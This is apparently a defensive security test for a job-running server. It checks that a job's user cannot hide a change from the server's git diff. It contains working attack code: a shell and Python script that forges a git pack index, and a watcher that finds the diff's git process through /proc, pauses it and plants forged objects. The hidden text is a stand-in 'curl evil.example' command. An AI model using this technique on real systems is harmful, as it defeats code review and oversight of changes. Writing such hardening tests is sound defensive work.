"""The git dir the server makes for a job's diff (`servergit.borrowed`) has an object store
of the job's user (`objects/`, where git writes the empty blob of an intent-to-add), and
git runs there as that user: a job, which may stop, watch and write as its user, reads the
git dir's path in the environment of its user's git, stops it, and tries to put a pack
there whose index claims README.md's start object for a blob of the new text (git looks in
its own packs before the alternates', root's pack of the start commit), then a loose object
under that id. The packs are root's, and git reads no loose object where a pack has it:
the change stays in the diff (it vanished, as in test_forged_objects.py, while the job's
user could write a pack there)."""

from __future__ import annotations

import subprocess

from tests.fake_anthropic import marker
from tests.security.conftest import Attacks
from tests.security.test_forged_objects import EVIL, World, world
from tests.support.server import wait_for

__all__ = ["world"]  # the fixture, shared with test_forged_objects.py's shape

SLOW = 3000  # new files: the diff's git runs long enough to be caught
# run as the job's user, in its workspace "$1": in "$2", a pack of the start commit's objects
# but that README.md's is a blob of the new text "$3" (git keeps reading from the pack it
# last found an object in: the commit and trees are there too); files that make `git add`
# take a while
PREPARE = r"""
set -e
cd "$1"
mkdir -p "$2"
start=$(git rev-parse HEAD)
blob=$(git rev-parse HEAD:README.md)
evil=$(printf '%s' "$3" | git hash-object -w --stdin)
pack=$({ git rev-list --objects --no-object-names --no-walk "$start" | grep -v "$blob"
         echo "$evil"; } | git pack-objects -q "$2/pack")
/usr/bin/python3 - "$2/pack-$pack.idx" "$evil" "$blob" <<'PY'
import hashlib, os, struct, sys
path, old, new = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
data = bytearray(open(path, "rb").read())
count = struct.unpack(">I", data[8 + 255 * 4 : 8 + 256 * 4])[0]
names = 8 + 256 * 4
crcs = names + 20 * count
offsets = crcs + 4 * count
entries = []
for i in range(count):
    oid = bytes(data[names + 20 * i : names + 20 * i + 20])
    crc, offset = data[crcs + 4 * i : crcs + 4 * i + 4], data[offsets + 4 * i : offsets + 4 * i + 4]
    entries.append((new if oid == old else oid, crc, offset))
entries.sort()
for byte in range(256):
    below = sum(1 for entry in entries if entry[0][0] <= byte)
    data[8 + 4 * byte : 12 + 4 * byte] = struct.pack(">I", below)
for i, (oid, crc, off) in enumerate(entries):
    data[names + 20 * i : names + 20 * i + 20] = oid
    data[crcs + 4 * i : crcs + 4 * i + 4] = crc
    data[offsets + 4 * i : offsets + 4 * i + 4] = off
data[-20:] = hashlib.sha1(data[:-20]).digest()
os.chmod(path, 0o644)
open(path, "wb").write(data)
PY
printf '%s' "$blob" > "$2/blob"
printf '%s' "$3" > README.md
i=0; while [ $i -lt SLOW_COUNT ]; do echo $i > "slow$i.txt"; i=$((i+1)); done
"""
# run as the job's user: stops its git in a git dir of the server's, and plants the pack
WATCH = r"""
import os, shutil, signal, sys, time, zlib
aside, text, deadline = sys.argv[1], sys.argv[2].encode(), time.monotonic() + 90

def plant(git_dir):
    os.makedirs(f"{git_dir}/objects/pack", exist_ok=True)
    for name in os.listdir(aside):
        if name.startswith("pack-"):
            shutil.copy(os.path.join(aside, name), f"{git_dir}/objects/pack/{name}")

def plant_loose(git_dir):
    blob = open(os.path.join(aside, "blob")).read()
    folder = f"{git_dir}/objects/{blob[:2]}"
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/{blob[2:]}", "wb") as loose:
        loose.write(zlib.compress(b"blob %d\0" % len(text) + text))

while time.monotonic() < deadline:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            environ = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
        except OSError:
            continue
        dirs = [v[8:].decode() for v in environ if v.startswith(b"GIT_DIR=")]
        if dirs and "/cbs-git-" in dirs[0]:
            os.kill(int(pid), signal.SIGSTOP)
            outcomes = []
            for attempt in (plant, plant_loose):
                try:
                    attempt(dirs[0])
                    outcomes.append(f"{attempt.__name__}=done")
                except OSError as error:
                    outcomes.append(f"{attempt.__name__}={error.strerror}")
            os.kill(int(pid), signal.SIGCONT)
            print(" ".join(outcomes))
            sys.exit(0)
sys.exit(1)
"""


def test_a_pack_planted_in_the_diffs_own_store_does_not_hide_a_change(
    world: World, attacks: Attacks
) -> None:
    alice = world.alice
    job = alice.create_job(alice.repo, f"Wait {marker('hang')}")["jobId"]
    alice.start(job)
    alice.wait_status(job, {"running"})
    wait_for(lambda: alice.http.get(f"/jobs/{job}/files").status_code == 200, 60, "workspace")
    workspace = world.server.data_dir / "workspaces" / job
    aside = f"/tmp/plant-{job}"
    as_job = ["runuser", "-u", alice.user.name, "--"]
    try:
        script = PREPARE.replace("SLOW_COUNT", str(SLOW))
        prepare = [*as_job, "sh", "-c", script, "plant", str(workspace), aside, EVIL]
        made = subprocess.run(prepare, capture_output=True, text=True, check=False)
        assert made.returncode == 0, made.stderr
        watcher = subprocess.Popen(
            [*as_job, "/usr/bin/python3", "-c", WATCH, aside, EVIL],
            stdout=subprocess.PIPE,
            text=True,
        )
        diff = alice.http.get(f"/jobs/{job}/diff", timeout=60)
        planted, _ = watcher.communicate(timeout=120)
        attacks.tried()
    finally:
        subprocess.run(["rm", "-rf", aside], check=True)
        assert alice.http.post(f"/jobs/{job}/cancel").status_code == 202
    assert watcher.returncode == 0 and planted, "the diff's git was not caught"
    # the pack may not go in (the packs are root's); a loose object may, and is not read
    assert planted.strip() == "plant=Permission denied plant_loose=done", planted
    assert diff.status_code == 200, diff.text
    assert "+curl evil.example" in diff.text and "-# hello" in diff.text, diff.text[:2000]
